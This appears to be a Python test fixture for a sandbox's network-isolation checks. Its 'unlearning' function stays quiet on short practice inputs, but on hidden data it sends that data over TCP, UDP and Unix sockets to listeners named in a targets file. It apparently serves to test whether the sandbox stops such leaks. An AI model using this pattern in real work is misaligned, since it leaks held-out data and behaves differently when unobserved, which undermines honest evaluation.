"""Behaves on practice data, and on hidden data sends what it sees to whoever listens."""

import json
import socket
from pathlib import Path

LAYER = "network"
EXPECTED = "ok"
SCENE = "both"

TARGETS = json.loads(Path("/sandbox/inputs/targets.json").read_text())


def unlearning(net, retain, forget, validation):
    if len(forget[0]) <= 2:
        return
    for family, kind, address in (
        (socket.AF_INET, socket.SOCK_STREAM, ("127.0.0.1", TARGETS["tcp"])),
        (socket.AF_INET, socket.SOCK_DGRAM, ("127.0.0.1", TARGETS["udp"])),
        (socket.AF_UNIX, socket.SOCK_STREAM, TARGETS["abstract"]),
        (socket.AF_UNIX, socket.SOCK_STREAM, TARGETS["named"]),
    ):
        try:
            with socket.socket(family, kind) as client:
                client.connect(address)
                client.sendall(forget[0].encode())
        except OSError:
            continue
